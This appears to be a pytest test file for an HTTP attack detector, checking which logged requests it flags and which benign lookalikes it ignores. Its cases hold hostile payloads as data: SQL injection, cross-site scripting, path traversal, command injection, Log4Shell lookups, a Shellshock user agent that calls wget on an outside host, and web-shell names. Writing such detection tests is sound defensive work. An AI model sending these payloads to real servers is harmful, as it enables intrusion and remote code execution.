"""Web attacks, and requests that merely look odd."""

from typing import Any

import pytest

from sensors.values import Kind

A = "192.0.2.7"


def _get(path: str, at: float = 0.0, **fields: Any) -> dict[str, Any]:
    return {"at": at, "orig": A, "method": "GET", "path": path, "agent": "Mozilla/5.0", "status": 200, **fields}


@pytest.mark.parametrize(
    ("path", "reason"),
    [
        ("/item.php?id=1%27%20UNION%20SELECT%20name,pw%20FROM%20users--", "web.sql"),
        ("/item.php?id=1+and+sleep(5)", "web.sql"),
        ("/item.php?id=%2527%2520or%25201%253D1", "web.sql"),
        ("/item.php?id=1%27%29+or+elt%281032%3D1032%2C3623%29", "web.sql"),
        ("/item.php?id=1%27+%2B+(select+1+where+2=2)", "web.sql"),
        ("/item.php?task=abc%27+%2B+%27def", "web.sql"),
        ("/item.php?id=1%27+or+char(119)%7C%7Cchar(100)=x", "web.sql"),
        ("/?q=%3Cscript%3Ealert(1)%3C/script%3E", "web.script"),
        ("/?q=%3Cimg+src%3D%22jav+ascript:x()%22%3E", "web.script"),
        ("/?u=data:text/html;base64,PHA%2B", "web.script"),
        ("/static/..0x2f..0x2f..0x2fboot", "web.traversal"),
        ("/....//....//web-inf/web.xml", "web.traversal"),
        ("/ping?host=1%7C/usr/bin/id", "web.command"),
        ("/?q=%22onerror%3D1%3E%3Csvg%20onload=alert(1)%3E", "web.script"),
        ("/static/..%2f..%2f..%2fetc/passwd", "web.traversal"),
        ("/?page=php://filter/convert.base64-encode/resource=index", "web.traversal"),
        ("/ping?host=127.0.0.1;cat%20/etc/hosts", "web.command"),
        ("/?x=$(wget%20http://203.0.113.1/a)", "web.command"),
        ("/?x=${jndi:ldap://203.0.113.1/a}", "web.lookup"),
        ("/?x=%24%7B%24%7Blower:j%7Dndi:ldap://203.0.113.1/a%7D", "web.lookup"),
        ("/index.php?s=/index/think/app/invokefunction&function=phpinfo", "web.code"),
    ],
)
def test_one_plain_injection_is_enough(world: Any, path: str, reason: str) -> None:
    world.read(Kind.HTTP, [_get(path)])
    assert reason in world.reasons()
    assert world.worst(A) >= 0.8


@pytest.mark.parametrize(
    "path",
    [
        "/search?q=union+select+committee", "/search?q=O%27Reilly+and+sons", "/wiki/Cross-site_scripting", "/a;id=12",
        "/shop?sort=price&order=desc&q=5+or+6+inch", "/css/../css/site.css", "/docs/select-from-where.html",
        "/?utm_source=a%26b&next=https://example.org/", "/s?q=rock+%27n%27+roll+--+best+of", "/files/report(1).pdf",
        "/search?q=(select+one+of+three)", "/search?q=where+to+buy+a+char(coal)+grill", "/video...and-more.html",
        "/search?q=rock+%27n%27+roll%27s+%27best%27", "/?q=from+master+to+margarita", "/?q=data:+html+and+text",
        "/search?q=update+your+table+from+ikea", "/?redirect=/login%3Fx%3D1", "/javascript:void(0)", "/?q=cat+food",
    ],
)  # fmt: skip
def test_ordinary_requests_are_nothing(world: Any, path: str) -> None:
    world.read(Kind.HTTP, [_get(path)])
    assert world.findings == []


def test_injection_in_the_user_agent(world: Any) -> None:
    world.read(Kind.HTTP, [_get("/", agent="() { :; }; /bin/bash -c 'wget http://203.0.113.1'")])
    assert world.worst(A) >= 0.8


def test_a_scanner_names_itself(world: Any) -> None:
    world.read(Kind.HTTP, [_get("/", agent="sqlmap/1.7 (https://sqlmap.org)"), _get("/a", 1, agent="sqlmap/1.7")])
    assert world.worst(A) >= 0.8


def test_one_odd_file_is_weak_and_several_are_not(world: Any) -> None:
    world.read(Kind.HTTP, [_get("/.env", status=404)])
    assert world.worst(A) < 0.4
    world.read(Kind.HTTP, [_get(path, 5, status=404) for path in ("/.git/config", "/backup.sql", "/wp-config.php")])
    assert world.worst(A) >= 0.8


def test_a_tool_that_looks_for_paths(world: Any) -> None:
    world.read(Kind.HTTP, [_get(f"/dir{n}", n * 0.2, status=404) for n in range(60)])
    assert world.worst(A) >= 0.8
    assert world.reasons() == {"web.probing"}


def test_what_tools_try_everywhere_counts_a_little_where_it_is_missing(world: Any) -> None:
    paths = ("/phpMyAdmin-2.11/x", "/var/www/pma", "/cgi-bin/luci", "/wp-login.php", "/webmail/", "", "/gone.php")
    world.read(Kind.HTTP, [_get(path, n, status=404) for n, path in enumerate(paths)])
    assert world.reasons() == {"web.fishing"} and world.worst(A) <= 0.35


def test_what_is_there_may_be_asked_for_and_other_dead_links_mean_nothing(world: Any) -> None:
    paths = ("/favicon.ico", "/mailing-list", "/old/page.html", "/images/managers.png", "/static/app.js?v=php")
    world.read(Kind.HTTP, [_get(path, n, status=404) for n, path in enumerate(paths)])
    world.read(Kind.HTTP, [_get(path, 9) for path in ("/phpmyadmin/", "/webmail/", "/wp-login.php")])
    assert not world.reasons()


def test_a_page_with_a_few_dead_links(world: Any) -> None:
    world.read(Kind.HTTP, [_get(f"/old{n}.png", n * 0.2, status=404) for n in range(6)])
    world.read(Kind.HTTP, [_get("/favicon.ico", 30.0 + n, status=404) for n in range(60)])
    assert world.findings == []


def test_guessing_at_a_login_form(world: Any) -> None:
    world.read(Kind.HTTP, [_get("/login", n * 1.0, method="POST") for n in range(40)])
    assert world.worst(A) >= 0.8
    assert "web.guessing" in world.reasons()


def test_a_site_that_refuses_by_status_and_lets_in_after_a_typing_error(world: Any) -> None:
    refused = [_get("/login", 0, method="POST", status=401)]
    world.read(Kind.HTTP, refused + [_get("/login", 5.0 + n, method="POST") for n in range(40)])
    assert world.worst(A) < 0.2


def test_what_one_client_is_refused_tells_how_a_site_refuses_others(world: Any) -> None:
    world.read(Kind.HTTP, [_get("/login", 0, method="POST", status=401, orig="198.51.100.9")])
    world.read(Kind.HTTP, [_get("/login", 5.0 + n, method="POST") for n in range(40)])
    assert world.worst(A) == 0


def test_a_client_that_logs_in_every_few_seconds(world: Any) -> None:
    world.read(Kind.HTTP, [_get("/login", n * 8.0, method="POST") for n in range(20)])
    assert world.worst(A) < 0.6


def test_logins_that_lead_on(world: Any) -> None:
    world.read(Kind.HTTP, [_get("/login", n * 1.0, method="POST", status=302) for n in range(40)])
    assert world.findings == []


def test_a_session_that_expired_once(world: Any) -> None:
    world.read(Kind.HTTP, [_get("/api/me", status=401), _get("/login", 2, method="POST"), _get("/api/me", 3)])
    assert world.worst(A) < 0.2


def test_a_flood_of_requests(world: Any) -> None:
    world.read(Kind.HTTP, [_get("/", n * 0.001) for n in range(6000)])
    assert world.worst(A) >= 0.8
    assert "flood.http" in world.reasons()


def test_hostile_texts_do_not_break_anything(world: Any) -> None:
    paths = ["%" * 5000, "%ff%fe%00", "\ud800", "/" * 70000, "${" * 3000, "(" * 4096, "\x00\x01"]
    world.read(Kind.HTTP, [_get(path, agent=path, referrer=path, method=path[:20]) for path in paths])


def test_mail_through_a_web_server_is_no_wrong_setting(make_world: Any) -> None:
    relay, proxy = make_world(), make_world()
    relay.read(Kind.HTTP, [_get("mail.example:25", method="CONNECT", status=405)])
    proxy.read(Kind.HTTP, [_get("news.example:443", method="CONNECT", status=405)])
    assert relay.worst(A) >= 0.7
    assert proxy.worst(A) < 0.4


def test_names_of_shells_add_up(make_world: Any) -> None:
    shells, manual = make_world(), make_world()
    shells.read(Kind.HTTP, [_get(f"/{name}.php", n, status=404) for n, name in enumerate(("b374k", "my_shell", "r57"))])
    manual.read(Kind.HTTP, [_get("/powershell.php"), _get("/docs/shell-scripts.html", 1), _get("/commands.php", 2)])
    assert shells.worst(A) >= 0.7
    assert manual.findings == []
